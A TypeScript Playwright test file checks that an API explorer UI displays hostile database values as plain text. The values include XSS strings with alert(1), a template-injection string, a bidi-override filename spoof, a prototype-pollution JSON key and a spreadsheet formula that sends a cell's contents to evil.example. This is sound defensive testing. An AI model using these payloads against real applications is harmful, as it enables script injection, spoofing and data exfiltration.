// @module-tag divided
import { defineEntity, type EntityManager, p } from '@mikro-orm/core';
import type { Browser } from 'playwright-core';
import { afterAll, beforeAll, describe, expect, test } from 'vitest';
import { openBrowser } from '../support/browser.ts';
import { databases, type FreshDatabase, freshDatabase } from '../support/databases.ts';
import { startApplication, type TestApplication } from '../support/testing.ts';
import { openExplorer, type WatchedPage } from './watched-page.ts';

const Note = defineEntity({
  name: 'Note',
  properties: {
    id: p.integer().primary().groups('read'),
    title: p.text().groups('read', 'write'),
    details: p.json<unknown>().nullable().groups('read', 'write'),
  },
});

const hostile = {
  markup: '<img src=x onerror="alert(1)"><b>bold</b></td></table><h1>heading</h1>',
  script: '</script><script>alert(1)</script><svg onload=alert(1)>',
  address: 'javascript:alert(1)',
  // biome-ignore lint/suspicious/noTemplateCurlyInString: a text that a template engine would run
  template: '{{constructor.constructor("alert(1)")()}} ${alert(1)} &lt;b&gt;',
  direction: '\u202Egnp.exe \u2066\u2067evil\u2069 \u05D0\u05D1\u05D2 \u200F\u061C',
  formula: '=HYPERLINK("http://evil.example/?"&A1,"click")',
  control: 'null \u0001 \u007F \uFEFF \u2028 line',
};
const names = Object.keys(hostile) as (keyof typeof hostile)[];
const long = `begin ${'x'.repeat(1_000_000)} end`;

describe.each(databases)('hostile data in the explorer on %s', (kind) => {
  let database: FreshDatabase;
  let app: TestApplication;
  let browser: Browser;
  let watched: WatchedPage;
  beforeAll(async () => {
    database = await freshDatabase(kind);
    app = await startApplication({
      app_main: {
        database: { url: database.url, schema: 'update' },
        apis: {
          note: {
            class: Note,
            base_path: '/api/note',
            description: hostile.markup,
            search: ['title'],
            filters: { title: ['eq', 'contains'] },
            actions: { _index: { methods: { GET: true, POST: true } }, _entity: { methods: { GET: true, PATCH: true } } },
          },
        },
      },
      models: [Note],
      seed: (em: EntityManager) => {
        for (const name of names) em.create(Note, { title: hostile[name], details: { [hostile[name]]: [hostile[name]] } });
        em.create(Note, { title: long, details: { long } });
        em.create(Note, { title: 'last', details: JSON.parse('{"__proto__": {"polluted": true}, "constructor": "x"}') });
      },
    } as never);
    browser = await openBrowser();
    watched = await openExplorer(browser, app);
  });
  afterAll(async () => {
    await browser?.close();
    await app?.close();
    await database?.drop();
  });

  /** Elements that the explorer does not make itself. */
  const strangers = 'main :is(img, script, svg[onload], iframe, b, a[href^="javascript" i], td h1)';

  async function expectText(text: string): Promise<void> {
    const { page } = watched;
    expect(await page.locator(strangers).count()).toBe(0);
    const shown = await page.locator('main').evaluate((main) => main.textContent);
    expect(shown).toContain(text);
    watched.expectQuiet();
  }

  test.each(names)('%s is text in a list, on its page and in its form', async (name) => {
    const { page } = watched;
    const text = hostile[name];
    await page.goto(`${app.url}/explorer/note`);
    const id = names.indexOf(name) + 1;
    const link = page.locator(`a.row-link[href="/explorer/note/${id}"]`);
    await link.waitFor();
    await expectText(text);
    await link.click();
    await page.locator('dl.fields').waitFor();
    await expectText(text);
    expect(await page.title()).not.toBe('');
    await page.locator('.view-head').getByText('Edit', { exact: true }).click();
    await page.locator('#field-title').waitFor();
    // a text area has no carriage returns, and none of these texts has one
    expect(await page.locator('#field-title').inputValue()).toBe(text);
    expect(JSON.parse(await page.locator('#field-details').inputValue())).toEqual({ [text]: [text] });
    expect(await page.locator(strangers).count()).toBe(0);
    watched.expectQuiet();
  });

  test('directions of a text end with it', async () => {
    const { page } = watched;
    const id = names.indexOf('direction') + 1;
    await page.goto(`${app.url}/explorer/note/${id}`);
    await page.locator('dl.fields').waitFor();
    const isolated = page.locator('main bdi', { hasText: 'gnp.exe' });
    expect(await isolated.count()).toBeGreaterThan(0);
    // outside of bdi, the text could reorder what stands beside it
    const loose = `(() => {
      const texts = document.createTreeWalker(document.querySelector('main'), NodeFilter.SHOW_TEXT);
      const found = [];
      while (texts.nextNode()) if (texts.currentNode.data.includes('gnp.exe')) found.push(texts.currentNode.parentElement);
      return found.filter((element) => !element.closest('bdi, pre, code')).map((element) => element.outerHTML);
    })()`;
    expect(await page.evaluate(loose)).toEqual([]);
    watched.expectQuiet();
  });

  test('a text of 1 MB is cut in lists and on its page, and shown whole on request', async () => {
    const { page } = watched;
    const id = names.length + 1;
    await page.goto(`${app.url}/explorer/note`);
    const link = page.locator(`a.row-link[href="/explorer/note/${id}"]`);
    await link.waitFor();
    const size = () => page.locator('main').evaluate((main) => (main as { textContent: string }).textContent.length);
    expect(await size()).toBeLessThan(50_000);
    await link.click();
    await page.locator('dl.fields').waitFor();
    expect(await size()).toBeLessThan(300_000);
    await page
      .getByRole('button', { name: /^Show all/ })
      .first()
      .click();
    await expect.poll(size, { timeout: 30_000 }).toBeGreaterThan(1_000_000);
    watched.expectQuiet();
  });

  test('keys such as __proto__ in JSON change nothing', async () => {
    const { page } = watched;
    await page.goto(`${app.url}/explorer/note/${names.length + 2}`);
    await page.locator('dl.fields').waitFor();
    expect(await page.evaluate('({}).polluted')).toBeUndefined();
    watched.expectQuiet();
  });

  test.each(['script', 'markup'] as const)('%s in the address is text', async (name) => {
    const { page } = watched;
    const text = encodeURIComponent(hostile[name]);
    for (const path of [`/explorer/${text}`, `/explorer/note/${text}`, `/explorer/note?q=${text}`]) {
      await page.goto(app.url + path);
      await page.locator('main h1').waitFor();
      expect(await page.locator(strangers).count()).toBe(0);
    }
    expect(watched.complaints).toEqual([]);
  });
});
